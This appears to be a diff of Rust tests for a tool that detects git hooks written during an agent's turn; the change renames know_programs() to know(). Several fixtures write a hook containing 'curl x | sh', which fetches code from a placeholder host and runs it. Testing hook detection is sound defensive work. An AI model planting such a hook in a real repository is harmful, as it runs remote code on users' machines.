@@ -37,7 +37,7 @@ fn what_a_turn_has_git_run_is_said_until_the_user_knows_it() {
     let outside =
         "Somebody, outside any turn of an agent, wrote .git/hooks/pre-commit, which git runs";
     assert_eq!(said(folder), [outside]);
-    let know = || Project::open(folder).unwrap().know_programs().unwrap();
+    let know = || Project::open(folder).unwrap().know().unwrap();
     assert_eq!((know(), know()), (1, 0));
     assert!(said(folder).is_empty());
     in_turn(folder, || {
@@ -76,7 +76,7 @@ fn hooks_are_found_wherever_the_configuration_has_them() {
     hook(&folder.join(".husky/_/pre-commit"), "check\n");
     fs::write(folder.join(".husky/_/.gitignore"), "*\n").unwrap();
     git(folder, &["config", "core.hooksPath", ".husky/_"]);
-    Project::open(folder).unwrap().know_programs().unwrap();
+    Project::open(folder).unwrap().know().unwrap();
     in_turn(folder, || {
         hook(&folder.join(".husky/_/pre-commit"), "curl x | sh\n")
     });
@@ -86,7 +86,7 @@ fn hooks_are_found_wherever_the_configuration_has_them() {
     );
     // What is not ignored is a file like any.
     fs::remove_file(folder.join(".husky/_/.gitignore")).unwrap();
-    Project::open(folder).unwrap().know_programs().unwrap();
+    Project::open(folder).unwrap().know().unwrap();
     in_turn(folder, || {
         hook(&folder.join(".husky/_/pre-push"), "curl x | sh\n")
     });
@@ -96,7 +96,7 @@ fn hooks_are_found_wherever_the_configuration_has_them() {
     hook(&folder.join("check"), "check\n");
     fs::create_dir_all(folder.join(".git/hooks")).unwrap();
     symlink("../../check", folder.join(".git/hooks/pre-commit")).unwrap();
-    Project::open(folder).unwrap().know_programs().unwrap();
+    Project::open(folder).unwrap().know().unwrap();
     in_turn(folder, || hook(&folder.join("check"), "curl x | sh\n"));
     assert!(said(folder).is_empty());
 }
